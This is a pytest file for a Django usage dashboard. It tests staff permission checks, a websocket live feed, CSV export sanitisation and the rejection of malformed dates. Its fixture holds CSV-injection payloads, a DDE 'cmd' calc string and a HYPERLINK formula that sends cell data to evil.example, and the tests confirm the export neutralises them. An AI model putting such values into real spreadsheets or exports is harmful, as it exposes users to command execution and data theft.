"""Staff views check model permissions (403 for staff without them), CSV cells never run as
spreadsheet formulas, and malformed dates give 400 naming the parameter."""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import timedelta

import pytest
from channels.layers import get_channel_layer
from channels.testing import WebsocketCommunicator
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.test import Client
from django.utils import timezone

from realtime_site.usage.models import ConnectionRecord
from realtime_site.usage.recorder import LIVE_GROUP

RECORD_PAGES = ["/admin/dashboard/", "/admin/dashboard/data", "/admin/dashboard/export.csv"]
ALL_PAGES = [*RECORD_PAGES, "/admin/runners/", "/metrics"]


def staff_with(username: str, *codenames: str):
    user = get_user_model().objects.create_user(username, password=f"pw-{username}-123456", is_staff=True)
    user.user_permissions.add(*Permission.objects.filter(content_type__app_label="usage", codename__in=codenames))
    return user


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.mark.django_db
@pytest.mark.parametrize("path", ALL_PAGES)
def test_staff_views_refuse_staff_without_permissions(path: str) -> None:
    response = client_for(staff_with("pat")).get(path)
    assert response.status_code == 403, response.content[:300]


@pytest.mark.django_db
@pytest.mark.parametrize("path", ALL_PAGES)
def test_staff_views_open_to_superusers(path: str) -> None:
    boss = get_user_model().objects.create_superuser("boss", password="pw-boss-123456")
    assert client_for(boss).get(path).status_code == 200


@pytest.mark.django_db
def test_staff_views_follow_each_permission() -> None:
    viewer = client_for(staff_with("vera", "view_connectionrecord"))
    operator = client_for(staff_with("otto", "view_runners"))
    for path in [*RECORD_PAGES, "/metrics"]:
        assert (viewer.get(path).status_code, operator.get(path).status_code) == (200, 403), path
    assert (viewer.get("/admin/runners/").status_code, operator.get("/admin/runners/").status_code) == (403, 200)
    refused = client_for(staff_with("pat")).get("/metrics")
    assert b"usage.view_connectionrecord" in refused.content


@pytest.mark.django_db(transaction=True)
async def test_staff_views_live_feed_refuses_staff_without_permission() -> None:
    from realtime_site.asgi import application

    async def feed(user) -> WebsocketCommunicator:
        client = Client()
        await client.aforce_login(user)
        headers = [
            (b"cookie", f"sessionid={client.cookies['sessionid'].value}".encode()),
            (b"origin", b"http://testserver"),
            (b"host", b"testserver"),
        ]
        communicator = WebsocketCommunicator(application, "/admin/live", headers=headers)
        connected, _ = await communicator.connect(timeout=30)
        assert connected
        return communicator

    Users = get_user_model()
    pat = await Users.objects.acreate_user("pat", password="pw-pat-123456", is_staff=True)
    boss = await Users.objects.acreate_superuser("boss", password="pw-boss-123456")
    refused = await feed(pat)
    assert await refused.receive_output(timeout=30) == {"type": "websocket.close", "code": 4403}
    allowed = await feed(boss)
    message = {"type": "usage.live", "gateway": "g:1", "active": {}, "minutes": []}
    # The consumer joins the group after its accept: send until it is in.
    for _ in range(60):
        await get_channel_layer().group_send(LIVE_GROUP, message)
        if not await allowed.receive_nothing(timeout=0.5):
            break
    assert json.loads(await allowed.receive_from(timeout=30)) == {"gateway": "g:1", "active": {}, "minutes": []}
    await allowed.disconnect()
    await refused.disconnect()


@pytest.fixture
def hostile_record(db):
    user = get_user_model().objects.create_user("=cmd|' /C calc'!A0", password="pw-mallory-1234")
    return ConnectionRecord.objects.create(
        id=uuid.uuid4(),
        user_id=user.pk,
        username=user.username,
        app="local/echo",
        auth_method="api_key",
        started_at=timezone.now() - timedelta(minutes=1),
        frames_in=3,
        user_agent='=HYPERLINK("http://evil.example/?x="&A1)',
        client_address="+1-2",
        runner="@SUM(1+1)",
        gateway="\tg:1",
        errors={"-x": 1},
    )


@pytest.mark.django_db
def test_csv_cells_that_could_be_formulas_are_neutralised(hostile_record) -> None:
    boss = get_user_model().objects.create_superuser("boss", password="pw-boss-123456")
    response = client_for(boss).get("/admin/dashboard/export.csv")
    header, row = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = dict(zip(header, row, strict=True))
    assert cells["user_agent"] == "'" + hostile_record.user_agent
    assert cells["username"] == "'" + hostile_record.username
    assert (cells["client_address"], cells["runner"], cells["gateway"]) == ("'+1-2", "'@SUM(1+1)", "'\tg:1")
    assert cells["errors"] == '{"-x": 1}' and cells["frames_in"] == "3" and cells["app"] == "local/echo"


NASTY_DATES = [
    "2024-13-45T99:99",  # well formed, not a date: parse_datetime raises ValueError
    "2024-02-30T10:00",
    "2024-01-01T25:00",
    "99999-01-01T00:00",  # a five-digit year
    "0001-01-01T00:00+14:00",  # before the first representable instant in UTC
    "9999-12-31T23:59:59-14:00",  # after the last one
    "2024-01-01T00:00+25:00",  # an offset no timezone has
    "yesterday",
    "2024-01-01T00:00\x00",
    "1" * 5000,
]


@pytest.mark.django_db
@pytest.mark.parametrize("value", NASTY_DATES)
@pytest.mark.parametrize("name", ["start", "end"])
@pytest.mark.parametrize("path", RECORD_PAGES)
def test_staff_views_malformed_dates_are_400_naming_the_parameter(path: str, name: str, value: str) -> None:
    boss = get_user_model().objects.create_superuser("boss", password="pw-boss-123456")
    response = client_for(boss).get(path, {name: value})
    assert response.status_code == 400, response.content[:300]
    body = response.json()["detail"] if path.endswith("/data") else response.content.decode()
    assert body.startswith(f"{name}: ") and "not a valid date" in body and len(body) < 400
